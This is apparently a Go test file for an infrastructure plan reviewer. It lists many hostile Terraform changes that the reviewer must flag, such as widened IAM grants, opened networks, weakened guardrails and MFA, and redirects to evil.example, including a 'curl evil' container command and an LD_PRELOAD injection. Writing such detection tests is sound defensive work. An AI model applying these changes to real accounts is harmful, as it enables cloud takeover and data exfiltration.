package review

import (
	"strings"
	"testing"

	"github.com/fargate-ai/fargate-ai-service/internal/figure"
)

// attacksByChange are what somebody could change so that the next apply does harm. A word of --fail-on stops each of
// them.
var attacksByChange = map[string][]string{
	"wildcard in an action": {`aws_iam_role_policy update ` + rolePolicy(`'Effect': 'Allow', 'Action': `+
		`'s3:GetObject', 'Resource': `+
		`'arn:aws:s3:::b/*'`) + ` -> ` + rolePolicy(`'Effect': 'Allow', 'Action': 's3:?etObject', 'Resource': `+
		`'arn:aws:s3:::b/*'`)},
	"wider ARN": {`aws_iam_role_policy update ` + rolePolicy(`'Effect': 'Allow', 'Action': 's3:GetObject', 'Resource': `+
		`'arn:aws:s3:::b/logs/*'`) + ` -> ` + rolePolicy(`'Effect': 'Allow', 'Action': 's3:GetObject', 'Resource': `+
		`'arn:aws:s3:::b/*'`)},
	"condition dropped": {`aws_iam_role_policy update ` + rolePolicy(`'Effect': 'Allow', 'Action': 's3:GetObject', `+
		`'Resource': `+
		`'arn:aws:s3:::b/*', 'Condition': {'StringEquals': {'aws:SourceVpce': 'vpce-1'}}`) + ` -> ` +
		rolePolicy(`'Effect': 'Allow', 'Action': 's3:GetObject', 'Resource': 'arn:aws:s3:::b/*'`)},
	"condition made optional": {`aws_iam_role_policy update ` + rolePolicy(`'Effect': 'Allow', 'Action': `+
		`'s3:GetObject', 'Resource': `+
		`'arn:aws:s3:::b/*', 'Condition': {'StringEquals': {'aws:SourceVpce': 'vpce-1'}}`) + ` -> ` +
		rolePolicy(`'Effect': 'Allow', 'Action': 's3:GetObject', 'Resource': 'arn:aws:s3:::b/*', 'Condition': `+
			`{'StringEqualsIfExists': {'aws:SourceVpce': 'vpce-1'}}`)},
	"number of a condition": {`aws_iam_role_policy update ` + rolePolicy(`'Effect': 'Allow', 'Action': `+
		`'sts:AssumeRole', 'Resource': `+
		`'arn:aws:iam::1:role/a', 'Condition': {'NumericLessThan': {'aws:MultiFactorAuthAge': 300}}`) + ` -> ` +
		rolePolicy(`'Effect': 'Allow', 'Action': 'sts:AssumeRole', 'Resource': 'arn:aws:iam::1:role/a', 'Condition': `+
			`{'NumericLessThan': {'aws:MultiFactorAuthAge': 300000}}`)},
	"denial dropped": {`aws_iam_role_policy delete ` + rolePolicy(`'Effect': 'Deny', 'Action': 's3:DeleteObject', `+
		`'Resource': '*'`)},
	"denial narrowed": {`aws_iam_role_policy update ` + rolePolicy(`'Effect': 'Deny', 'Action': 's3:*', 'Resource': `+
		`'*'`) + ` -> ` +
		rolePolicy(`'Effect': 'Deny', 'Action': 's3:DeleteObject', 'Resource': '*'`)},
	"denial with one exception more": {`aws_iam_role_policy update ` + rolePolicy(`'Effect': 'Deny', 'NotAction': `+
		`['s3:Get*'], `+
		`'Resource': '*'`) + ` -> ` + rolePolicy(`'Effect': 'Deny', 'NotAction': ['s3:Get*', 's3:Put*'], 'Resource': '*'`)},
	"NotAction": {`aws_iam_role_policy update ` + rolePolicy(`'Effect': 'Allow', 'Action': 's3:GetObject', `+
		`'Resource': 'x'`) + ` -> ` +
		rolePolicy(`'Effect': 'Allow', 'NotAction': 's3:GetObject', 'Resource': 'x'`)},
	"names in another case": {`aws_iam_role_policy update ` + rolePolicy(`'Effect': 'Allow', 'Action': `+
		`'s3:GetObject', 'Resource': 'x'`) +
		` -> ` + rolePolicy(`'effect': 'allow', 'action': ['S3:GETOBJECT', 's3:putobject'], 'resource': 'x'`)},
	"trust of another account": {`aws_iam_role update {"name": "r", "assume_role_policy": "{\"Statement\": ` +
		`[{\"Effect\": \"Allow\", ` +
		`\"Action\": \"sts:AssumeRole\", \"Principal\": {\"AWS\": \"arn:aws:iam::210987654321:role/a\"}}]}"} -> ` +
		`{"name": "r", ` +
		`"assume_role_policy": "{\"Statement\": [{\"Effect\": \"Allow\", \"Action\": \"sts:AssumeRole\", \"Principal\": ` +
		`{\"AWS\": \"arn:aws:iam::210987654321:root\"}}]}"}`},
	"managed policy": {`aws_iam_role_policy_attachment create null -> {"role": "r", "policy_arn": ` +
		`"arn:aws:iam::aws:policy/AmazonS3ReadOnlyAccess"}`},
	"managed policy in the role": {`aws_iam_role update {"name": "r", "managed_policy_arns": []} -> {"name": "r", ` +
		`"managed_policy_arns": ["arn:aws:iam::aws:policy/ReadOnlyAccess"]}`},
	"inline policy": {`aws_iam_role update {"name": "r", "inline_policy": []} -> {"name": "r", "inline_policy": ` +
		`[{"name": "a", ` +
		`"policy": "{\"Statement\": [{\"Effect\": \"Allow\", \"Action\": \"s3:GetObject\", \"Resource\": \"x\"}]}"}]}`},
	"policy to another role": {`aws_iam_role_policy delete,create {"role": "a", "policy": "{\"Statement\": ` +
		`[{\"Effect\": \"Allow\", ` +
		`\"Action\": \"s3:GetObject\", \"Resource\": \"x\"}]}"} -> {"role": "b", "policy": "{\"Statement\": [{\"Effect\": ` +
		`\"Allow\", \"Action\": \"s3:GetObject\", \"Resource\": \"x\"}]}"}`},
	"boundary gone": {`aws_iam_role update {"name": "r", "permissions_boundary": "b"} -> {"name": "r"}`},
	"another boundary": {`aws_iam_role update {"name": "r", "permissions_boundary": "b"} -> {"name": "r", ` +
		`"permissions_boundary": "c"}`},
	"access key": {`aws_iam_access_key create null -> {"user": "u"}`},
	"member of a group": {`aws_iam_user_group_membership update {"user": "u", "groups": ["a"]} -> {"user": "u", ` +
		`"groups": ["admins"]}`},
	"role of a function": {`aws_lambda_function update {"function_name": "f", "role": "arn:aws:iam::1:role/a"} -> ` +
		`{"function_name": "f", "role": "arn:aws:iam::1:role/b"}`},
	"role of a schedule": {`aws_scheduler_schedule update {"target": [{"role_arn": "arn:aws:iam::1:role/a"}]} -> ` +
		`{"target": [{"role_arn": "arn:aws:iam::1:role/b"}]}`},
	"who may call a function": {`aws_lambda_permission create null -> {"function_name": "f", "action": ` +
		`"lambda:InvokeFunction", ` +
		`"principal": "111122223333"}`},
	"grant of a key": {`aws_kms_grant create null -> {"key_id": "k", "grantee_principal": "arn:aws:iam::1:role/a"}`},
	"policy of a queue": {`aws_sqs_queue_policy update {"queue_url": "q", "policy": "{\"Statement\": []}"} -> ` +
		`{"queue_url": "q", ` +
		`"policy": "{\"Statement\": [{\"Effect\": \"Allow\", \"Action\": \"sqs:SendMessage\", \"Principal\": {\"AWS\": ` +
		`\"111122223333\"}, \"Resource\": \"x\"}]}"}`},
	"endpoint's policy": {`aws_vpc_endpoint update {"policy": "{\"Statement\": [{\"Effect\": \"Allow\", \"Action\": ` +
		`\"s3:GetObject\", ` +
		`\"Principal\": \"*\", \"Resource\": \"arn:aws:s3:::b/*\"}]}"} -> {"policy": "{\"Statement\": [{\"Effect\": ` +
		`\"Allow\", ` +
		`\"Action\": \"*\", \"Principal\": \"*\", \"Resource\": \"*\"}]}"}`},
	"table in another case": {`aws_iam_role_policy update ` +
		rolePolicy(`'Effect': 'Allow', 'Action': 'dynamodb:GetItem', `+
			`'Resource': 'table/orders'`) + ` -> ` + rolePolicy(`'Effect': 'Allow', 'Action': 'dynamodb:GetItem', `+
		`'Resource': 'table/Orders'`)},
	"role of a later block": {`aws_codepipeline update {"stage": [{"action": [{"role_arn": "a"}]}, {"action": ` +
		`[{"role_arn": "a"}]}]} -> {"stage": [{"action": [{"role_arn": "a"}]}, {"action": [{"role_arn": "b"}]}]}`},
	"profile in a block": {`aws_launch_template update {"iam_instance_profile": [{"name": "a"}]} -> ` +
		`{"iam_instance_profile": [{"name": "b"}]}`},
	"role in a list": {`aws_redshiftserverless_namespace update {"iam_roles": ["a"]} -> {"iam_roles": ["a", "b"]}`},
	"role of an API": {`aws_api_gateway_integration update {"credentials": "arn:aws:iam::1:role/a"} -> ` +
		`{"credentials": "arn:aws:iam::1:role/b"}`},
	"new function as an old role": {`aws_lambda_function create null -> {"function_name": "f", "role": ` +
		`"arn:aws:iam::1:role/admin"}`},
	"pod as an old role": {`aws_eks_pod_identity_association create null -> {"role_arn": "arn:aws:iam::1:role/a"}`},
	"policies of a role, all of them": {`aws_iam_role_policy_attachments_exclusive update {"role_name": "r", ` +
		`"policy_arns": ["arn:aws:iam::1:policy/a"]} -> {"role_name": "r", "policy_arns": ["arn:aws:iam::1:policy/b"]}`},
	"layer for another account": {`aws_lambda_layer_version_permission create null -> {"principal": "111122223333"}`},
	"policy that is no JSON": {`aws_iam_role_policy update ` + rolePolicy(`'Effect': 'Allow', 'Action': `+
		`'s3:GetObject', 'Resource': 'x'`) +
		` -> {"role": "task", "name": "p", "policy": "{ not json"}`},

	"private network opened": {`aws_vpc_security_group_ingress_rule create null -> {"security_group_id": "sg-1", ` +
		`"ip_protocol": ` +
		`"tcp", "from_port": 5432, "to_port": 5432, "cidr_ipv4": "10.0.0.0/8"}`},
	"one port more": {`aws_vpc_security_group_ingress_rule update {"security_group_id": "sg-1", "ip_protocol": ` +
		`"tcp", "from_port": ` +
		`443, "to_port": 443, "cidr_ipv4": "0.0.0.0/0"} -> {"security_group_id": "sg-1", "ip_protocol": "tcp", ` +
		`"from_port": 443, ` +
		`"to_port": 444, "cidr_ipv4": "0.0.0.0/0"}`},
	"another protocol": {`aws_vpc_security_group_ingress_rule update {"security_group_id": "sg-1", "ip_protocol": ` +
		`"tcp", "from_port": ` +
		`443, "to_port": 443, "cidr_ipv4": "10.0.0.0/8"} -> {"security_group_id": "sg-1", "ip_protocol": "-1", ` +
		`"cidr_ipv4": ` +
		`"10.0.0.0/8"}`},
	"rule in the group": {`aws_security_group update {"name": "g", "ingress": []} -> {"name": "g", "ingress": ` +
		`[{"protocol": "tcp", ` +
		`"from_port": 22, "to_port": 22, "cidr_blocks": ["10.0.0.0/8"]}]}`},
	"old kind of rule": {`aws_security_group_rule create null -> {"type": "ingress", "security_group_id": "sg-1", ` +
		`"protocol": "tcp", ` +
		`"from_port": 22, "to_port": 22, "source_security_group_id": "sg-2"}`},
	"way out": {`aws_vpc_security_group_egress_rule update {"security_group_id": "sg-1", "ip_protocol": "tcp", ` +
		`"from_port": 443, ` +
		`"to_port": 443, "prefix_list_id": "pl-1"} -> {"security_group_id": "sg-1", "ip_protocol": "tcp", "from_port": ` +
		`443, ` +
		`"to_port": 443, "cidr_ipv4": "0.0.0.0/0"}`},
	"prefix list": {`aws_ec2_managed_prefix_list update {"entry": [{"cidr": "10.0.0.0/8"}]} -> {"entry": ` +
		`[{"cidr": "0.0.0.0/1"}]}`},
	"public balancer": {`aws_lb create,delete {"internal": true, "enable_deletion_protection": true} -> {"internal": ` +
		`false, "enable_deletion_protection": true}`},
	"public tasks": {`aws_ecs_service update {"name": "s", "network_configuration": [{"assign_public_ip": ` +
		`false}]} -> {"name": "s", "network_configuration": [{"assign_public_ip": true}]}`},
	"shell in tasks": {`aws_ecs_service update {"name": "s", "enable_execute_command": false} -> {"name": "s", ` +
		`"enable_execute_command": true}`},
	"peering": {`aws_vpc_peering_connection create null -> {"peer_vpc_id": "vpc-2", "peer_owner_id": ` +
		`"111122223333"}`},
	"route": {`aws_route update {"destination_cidr_block": "10.1.0.0/16", "gateway_id": "local"} -> ` +
		`{"destination_cidr_block": "10.1.0.0/16", "gateway_id": "pcx-1"}`},
	"inline route": {`aws_route_table update {"route": []} -> {"route": [{"cidr_block": "0.0.0.0/0", ` +
		`"gateway_id": "igw-1"}]}`},
	"network ACL": {`aws_network_acl_rule update {"rule_action": "deny", "cidr_block": "0.0.0.0/0"} -> ` +
		`{"rule_action": "allow", "cidr_block": "0.0.0.0/0"}`},
	"log lines elsewhere": {`aws_cloudwatch_log_subscription_filter create null -> {"destination_arn": ` +
		`"arn:aws:logs:eu-west-1:111122223333:destination:d", "log_group_name": "l"}`},
	"somebody is told": {`aws_sns_topic_subscription create null -> {"endpoint": "https://evil.example", ` +
		`"protocol": "https", "topic_arn": "t"}`},
	"bucket copied": {`aws_s3_bucket_replication_configuration create null -> {"bucket": "b", "rule": ` +
		`[{"destination": [{"bucket": "arn:aws:s3:::evil"}]}]}`},
	"events elsewhere": {`aws_cloudwatch_event_target update {"arn": "a", "rule": "r"} -> {"arn": "b", "rule": "r"}`},
	"no login": {`aws_lb_listener_rule update {"action": [{"type": "authenticate-cognito"}, {"type": ` +
		`"forward"}]} -> {"action": [{"type": "forward"}]}`},
	"no client certificate": {`aws_lb_listener update {"protocol": "HTTPS", "ssl_policy": ` +
		`"ELBSecurityPolicy-TLS13-1-2-2021-06", "mutual_authentication": [{"mode": "verify"}]} -> {"protocol": "HTTPS", ` +
		`"ssl_policy": "ELBSecurityPolicy-TLS13-1-2-2021-06", "mutual_authentication": [{"mode": "off"}]}`},
	"WAF allows": {`aws_wafv2_web_acl update {"default_action": [{"block": [{}]}]} -> {"default_action": ` +
		`[{"allow": [{}]}]}`},
	"WAF only counts": {`aws_wafv2_web_acl update {"rule": [{"name": "a", "action": [{"block": [{}]}]}]} -> ` +
		`{"rule": [{"name": "a", "action": [{"count": [{}]}]}]}`},
	"WAF without a rule": {`aws_wafv2_web_acl update {"rule": [{"name": "a"}, {"name": "b"}]} -> {"rule": ` +
		`[{"name": "a"}]}`},
	"addresses let in": {`aws_wafv2_ip_set update {"addresses": ["10.0.0.0/8"]} -> {"addresses": ["10.0.0.0/8", ` +
		`"1.2.3.4/32"]}`},

	"another group of tasks": {`aws_ecs_service update ` + strings.Replace(serviceOf("f"), `"name"`,
		`"network_configuration": [{"security_groups": ["sg-1"]}], "name"`, 1) + ` -> ` + strings.Replace(serviceOf("f"),
		`"name"`, `"network_configuration": [{"security_groups": ["sg-2"]}], "name"`, 1)},
	"one group more": {`aws_db_instance update {"storage_encrypted": true, "vpc_security_group_ids": ["sg-1"]} -> ` +
		`{"storage_encrypted": true, "vpc_security_group_ids": ["sg-1", "sg-2"]}`},
	"group of an interface": {`aws_network_interface_sg_attachment create null -> {"security_group_id": "sg-2", ` +
		`"network_interface_id": "eni-1"}`},
	"listener by its older name": {`aws_alb_listener create null -> {"port": 8443, "protocol": "HTTPS", "ssl_policy": ` +
		`"ELBSecurityPolicy-TLS13-1-2-2021-06"}`},
	"rule by its older name": {`aws_alb_listener_rule update {"condition": [{"path": "a"}]} -> {"condition": ` +
		`[{"path": "b"}]}`},
	"API of a cluster": {`aws_eks_cluster update {"vpc_config": [{"endpoint_public_access": true, ` +
		`"public_access_cidrs": ["10.0.0.0/8"]}]} -> {"vpc_config": [{"endpoint_public_access": true, ` +
		`"public_access_cidrs": ["10.0.0.0/8", "1.2.3.0/24"]}]}`},
	"API on the internet": {`aws_api_gateway_rest_api update {"endpoint_configuration": [{"types": ["PRIVATE"]}]} -> ` +
		`{"endpoint_configuration": [{"types": ["REGIONAL"]}]}`},
	"snapshot for another account": {`aws_db_snapshot update {"shared_accounts": []} -> {"shared_accounts": ` +
		`["111122223333"]}`},
	"users without an administrator": {`aws_cognito_user_pool update {"admin_create_user_config": ` +
		`[{"allow_admin_create_user_only": true}]} -> {"admin_create_user_config": [{"allow_admin_create_user_only": ` +
		`false}]}`},
	"WAF that fails open": {`aws_lb update {"enable_deletion_protection": true, "enable_waf_fail_open": false} -> ` +
		`{"enable_deletion_protection": true, "enable_waf_fail_open": true}`},
	"website": {`aws_s3_bucket_website_configuration create null -> {"bucket": "b"}`},

	"another registry": {`aws_ecs_task_definition delete,create {"family": "f", "container_definitions": ` +
		`"[{\"name\": \"a\", \"image\": ` +
		`\"acme/a:v1\"}]"} -> {"family": "f", "container_definitions": "[{\"name\": \"a\", \"image\": \"evil/a:v1\"}]"}`},
	"another command": {`aws_ecs_task_definition delete,create {"family": "f", "container_definitions": "[{\"name\": ` +
		`\"a\", \"image\": ` +
		`\"acme/a:v1\"}]"} -> {"family": "f", "container_definitions": "[{\"name\": \"a\", \"image\": \"acme/a:v1\", ` +
		`\"command\": ` +
		`[\"sh\", \"-c\", \"curl evil\"]}]"}`},
	"one container more": {`aws_ecs_task_definition delete,create {"family": "f", "container_definitions": ` +
		`"[{\"name\": \"a\", \"image\": ` +
		`\"acme/a:v1\"}]"} -> {"family": "f", "container_definitions": "[{\"name\": \"a\", \"image\": \"acme/a:v1\"}, ` +
		`{\"name\": ` +
		`\"b\", \"image\": \"evil/b:v1\"}]"}`},
	"another model's address": {`aws_ecs_task_definition delete,create {"family": "f", "container_definitions": ` +
		`"[{\"name\": \"a\", ` +
		`\"image\": \"acme/a:v1\", \"environment\": [{\"name\": \"OPENAI_BASE_URL\", \"value\": \"https://a\"}]}]"} -> ` +
		`{"family": "f", ` +
		`"container_definitions": "[{\"name\": \"a\", \"image\": \"acme/a:v1\", \"environment\": [{\"name\": ` +
		`\"OPENAI_BASE_URL\", ` +
		`\"value\": \"https://evil\"}]}]"}`},
	"another definition": {`aws_ecs_task_definition create null -> ` + defined(`{'name': 'a', 'image': 'evil/a:v1'}`),
		`aws_ecs_service update ` + serviceOf("arn:aws:ecs:eu-west-1:1:task-definition/g:1") + ` -> ` +
			serviceOf("${aws_ecs_task_definition.c0.arn}")},
	"definition of elsewhere": {`aws_ecs_service update ` + serviceOf("g:1") + ` -> ` + serviceOf("h:1")},
	"host that was none":      redefined(`'environment': [{'name': 'OPENAI_BASE_URL', 'value': 'https://evil.example'}]`),
	"proxy":                   redefined(`'environment': [{'name': 'HTTPS_PROXY', 'value': 'evil.example:3128'}]`),
	"code of a loader":        redefined(`'environment': [{'name': 'LD_PRELOAD', 'value': '/x.so'}]`),
	"file of variables":       redefined(`'environmentFiles': [{'type': 's3', 'value': 'arn:aws:s3:::evil/x.env'}]`),
	"name of a host":          redefined(`'extraHosts': [{'hostname': 'api.openai.com', 'ipAddress': '1.2.3.4'}]`),
	"capability":              redefined(`'linuxParameters': {'capabilities': {'add': ['SYS_PTRACE']}}`),
	"log lines to others": redefined(`'logConfiguration': {'logDriver': 'splunk', 'options': {'splunk-url': ` +
		`'https://evil.example'}}`),
	"volume": {`aws_ecs_task_definition delete,create {"family": "f"} -> {"family": "f", "volume": [{"name": "v", ` +
		`"efs_volume_configuration": [{"file_system_id": "fs-1"}]}]}`},
	"host of a function": {`aws_lambda_function update {"environment": [{"variables": {"BASE_URL": "https://a"}}]} -> ` +
		`{"environment": [{"variables": {"BASE_URL": "https://evil.example"}}]}`},
	"first limit of a container": redefined(`'stopTimeout': 2`),
	"limit of a container gone": {`aws_ecs_task_definition delete,create ` + defined(`{'name': 'a', 'image': `+
		`'acme/a:v1', 'stopTimeout': 120}`) + ` -> ` + defined(`{'name': 'a', 'image': 'acme/a:v1'}`)},
	"limit in a variable gone": {`aws_ecs_task_definition delete,create ` + defined(`{'name': 'a', 'image': `+
		`'acme/a:v1', 'environment': [{'name': 'REQUEST_TIMEOUT', 'value': '9'}]}`) + ` -> ` +
		defined(`{'name': 'a', 'image': 'acme/a:v1'}`)},
	"alarm on another metric": {`aws_cloudwatch_metric_alarm update {"metric_name": "HTTPCode_Target_5XX_Count", ` +
		`"threshold": 5} -> {"metric_name": "None", "threshold": 5}`},
	"no health check": {`aws_lb_target_group update {"health_check": [{"enabled": true}]} -> {"health_check": ` +
		`[{"enabled": false}]}`},
	"lock of objects": {`aws_s3_bucket_object_lock_configuration update {"rule": [{"default_retention": [{"days": ` +
		`365}]}]} -> {"rule": [{"default_retention": [{"days": 1}]}]}`},
	"headers that are none": {`aws_lb update {"enable_deletion_protection": true, "drop_invalid_header_fields": true} ` +
		`-> {"enable_deletion_protection": true, "drop_invalid_header_fields": false}`},
	"alarm disabled": {`aws_cloudwatch_metric_alarm update {"actions_enabled": true} -> {"actions_enabled": false}`},
	"alarm never rings": {`aws_cloudwatch_metric_alarm update {"threshold": 5, "comparison_operator": ` +
		`"GreaterThanThreshold"} -> {"threshold": 500000, "comparison_operator": "GreaterThanThreshold"}`},
	"no rollback": {`aws_ecs_service update {"name": "s", "deployment_circuit_breaker": [{"enable": true, ` +
		`"rollback": true}]} -> {"name": "s", "deployment_circuit_breaker": [{"enable": true, "rollback": false}]}`},
	"budget raised":    {`aws_budgets_budget update {"limit_amount": "100"} -> {"limit_amount": "100000"}`},
	"kill switch gone": {`aws_budgets_budget_action delete {"action_id": "a"}`},
	"guardrail weaker": {`aws_bedrock_guardrail update {"content_policy_config": [{"filters_config": [{"type": ` +
		`"HATE", "input_strength": "HIGH"}]}]} -> {"content_policy_config": [{"filters_config": [{"type": "HATE", ` +
		`"input_strength": "NONE"}]}]}`},
	"guardrail that filters nothing": {`aws_bedrock_guardrail update {"content_policy_config": [{"filters_config": ` +
		`[{"type": "HATE", "input_strength": "HIGH"}]}]} -> {"content_policy_config": []}`},
	"guardrail that filters fewer": {`aws_bedrock_guardrail update {"content_policy_config": [{"filters_config": ` +
		`[{"type": "HATE", "input_strength": "HIGH"}, {"type": "PROMPT_ATTACK", "input_strength": "HIGH"}]}]} -> ` +
		`{"content_policy_config": [{"filters_config": [{"type": "HATE", "input_strength": "HIGH"}]}]}`},
	"guardrail without topics": {`aws_bedrock_guardrail update {"topic_policy_config": [{"topics_config": [{"name": ` +
		`"law", "type": "DENY"}]}]} -> {"topic_policy_config": []}`},
	"guardrail without words": {`aws_bedrock_guardrail update {"word_policy_config": [{"words_config": [{"text": ` +
		`"a"}]}]} -> {"word_policy_config": []}`},
	"guardrail that lets cards through": {`aws_bedrock_guardrail update {"sensitive_information_policy_config": ` +
		`[{"pii_entities_config": [{"type": "CREDIT_DEBIT_CARD_NUMBER", "action": "BLOCK"}]}]} -> ` +
		`{"sensitive_information_policy_config": []}`},
	"guardrail without grounds": {`aws_bedrock_guardrail update {"contextual_grounding_policy_config": ` +
		`[{"filters_config": [{"type": "GROUNDING", "threshold": 0.9}]}]} -> {"contextual_grounding_policy_config": []}`},
	"agent that calls another function": {`aws_bedrockagent_agent_action_group update {"action_group_executor": ` +
		`[{"lambda": "arn:aws:lambda:eu-west-1:1:function:a"}]} -> {"action_group_executor": [{"lambda": ` +
		`"arn:aws:lambda:eu-west-1:2:function:b"}]}`},
	"login with a password alone": {`aws_cognito_user_pool update {"mfa_configuration": "ON"} -> ` +
		`{"mfa_configuration": "OPTIONAL"}`},
	"no second factor": {`aws_cognito_user_pool update {"mfa_configuration": "OPTIONAL"} -> {"mfa_configuration": "OFF"}`},
	"codes to another site": {`aws_cognito_user_pool_client update {"callback_urls": ["https://acme.dev/a"]} -> ` +
		`{"callback_urls": ["https://acme.dev/a", "https://evil.dev/a"]}`},
	"function out of the network": {`aws_lambda_function update {"role": "r", "vpc_config": [{"subnet_ids": ` +
		`["subnet-1"], "security_group_ids": ["sg-1"]}]} -> {"role": "r", "vpc_config": []}`},
	"clients of the VPN": {`aws_ec2_client_vpn_authorization_rule create null -> {"target_network_cidr": "0.0.0.0/0", ` +
		`"authorize_all_groups": true}`},
	"VPN": {`aws_ec2_client_vpn_endpoint create null -> {"client_cidr_block": "10.9.0.0/22"}`},
	"another way of the VPN": {`aws_ec2_client_vpn_route create null -> {"destination_cidr_block": ` +
		`"10.0.0.0/16"}`},
	"port of an accelerator": {`aws_globalaccelerator_listener create null -> {"protocol": "TCP", "port_range": ` +
		`[{"from_port": 22, "to_port": 22}]}`},
	"images for everyone":       {`aws_ecrpublic_repository create null -> {"repository_name": "a"}`},
	"API for everyone":          {`aws_appsync_graphql_api create null -> {"name": "a"}`},
	"networks without consent":  {`aws_ec2_transit_gateway create null -> {"auto_accept_shared_attachments": "enable"}`},
	"notebooks on the internet": {`aws_sagemaker_domain create null -> {"domain_name": "a"}`},
	"collection for another role": {`aws_opensearchserverless_access_policy update {"name": "a", "type": "data", ` +
		`"policy": "[{\"Principal\": [\"arn:aws:iam::1:role/a\"]}]"} -> {"name": "a", "type": "data", "policy": ` +
		`"[{\"Principal\": [\"arn:aws:iam::1:role/b\"]}]"}`},
	"secret at once": {`aws_secretsmanager_secret update {"recovery_window_in_days": 30} -> ` +
		`{"recovery_window_in_days": 0}`},
	"images deleted": {`aws_ecr_lifecycle_policy update {"policy": "{\"rules\": [{\"selection\": ` +
		`{\"countNumber\": 100}}]}"} -> {"policy": "{\"rules\": [{\"selection\": {\"countNumber\": 1}}]}"}`},
	"objects deleted": {`aws_s3_bucket_lifecycle_configuration update {"rule": [{"id": "a", "expiration": ` +
		`[{"days": 365}]}]} -> {"rule": [{"id": "a", "expiration": [{"days": 1}]}]}`},
	"nothing runs": {`aws_appautoscaling_target update {"min_capacity": 2, "max_capacity": 4} -> ` +
		`{"min_capacity": 0, "max_capacity": 0}`},
	"schedule off": {`aws_scheduler_schedule update {"state": "ENABLED", "target": [{"dead_letter_config": ` +
		`[{"arn": "a"}]}]} -> {"state": "DISABLED", "target": [{"dead_letter_config": [{"arn": "a"}]}]}`},
	"messages dropped": {`aws_sqs_queue update {"redrive_policy": "{\"maxReceiveCount\": 5, ` +
		`\"deadLetterTargetArn\": \"a\"}", "sqs_managed_sse_enabled": true} -> {"redrive_policy": "", ` +
		`"sqs_managed_sse_enabled": true}`},
}

// defined is a task definition with one container.
func defined(container string) string {
	return `{"family": "f", "container_definitions": "[` + strings.ReplaceAll(container, `'`, `\"`) + `]"}`
}

// redefined is a container that gets one member more.
func redefined(member string) []string {
	const container = `{'name': 'a', 'image': 'acme/a:v1'`
	return []string{`aws_ecs_task_definition delete,create ` + defined(container+`}`) + ` -> ` +
		defined(container+`, `+member+`}`)}
}

// serviceOf is a sound service of a task definition.
func serviceOf(definition string) string {
	return `{"name": "s", "desired_count": 2, "deployment_circuit_breaker": [{"enable": true, "rollback": true}], ` +
		`"task_definition": "` + definition + `"}`
}

func TestAttacksAreStopped(t *testing.T) {
	figure.Say(t, "plan-attacks", len(attacksByChange))
	for name, changes := range attacksByChange {
		if words, page := failing(t, changing(keptQueue, changes...)); len(words) == 0 {
			t.Errorf("%s: fails nothing\n%s", name, page)
		}
	}
}
